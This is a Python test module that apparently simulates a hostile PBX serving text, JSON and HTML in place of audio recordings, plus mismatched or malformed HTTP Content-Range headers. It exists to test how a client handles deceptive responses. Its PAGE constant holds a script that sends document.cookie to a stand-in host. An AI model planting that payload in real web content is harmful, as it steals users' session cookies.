"""A PBX that sends other data in place of a sound.

It also sends such data as a part of a file, and other parts than those requested.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import chain, repeat
from typing import override

from tests.simulator.sounds import Wav

PAGE = (
    b"<!DOCTYPE html><html><script>document.location = 'http://example.com/' + "
    b"document.cookie</script></html>\n"
)


@dataclass(frozen=True, slots=True)
class NotASound(Wav):
    """A text, repeated as often as it takes, in the place of a recording."""

    text: bytes = PAGE

    @override
    def read(self, start: int, stop: int) -> Iterator[bytes]:
        into = start % len(self.text)
        yield bytes(
            byte
            for byte, _ in zip(
                chain(self.text[into:], chain.from_iterable(repeat(self.text))),
                range(stop - start),
                strict=False,
            )
        )


TEXTS = {
    "a page": PAGE,
    "an object": (
        b'{"status": "Success", "token": "e10adc3949ba59abbe56e057f20f883e"}\r\n'
    ),
    "a sentence": (
        "The file you want does not exist on this server, für niemanden.\n"
    ).encode(),
}

# The requested range (None: the whole file), and the `Content-Range` that comes with
# HTTP 206.
PARTS_THAT_LIE = [
    (None, "bytes 0-99/204"),
    ("bytes=0-99", None),
    ("bytes=0-99", "bytes 100-199/204"),
    ("bytes=0-99", "bytes 99-0/204"),
    ("bytes=0-99", "bytes 0-99/204, bytes 0-9/204"),
    ("bytes=0-99", "bytes 0-" + "9" * 5000 + "/*"),
    ("bytes=0-9,20-109", "bytes 0-99/204"),
    ("lines=0-99", "bytes 0-99/204"),
    ("bytes=-", "bytes 0-99/204"),
]
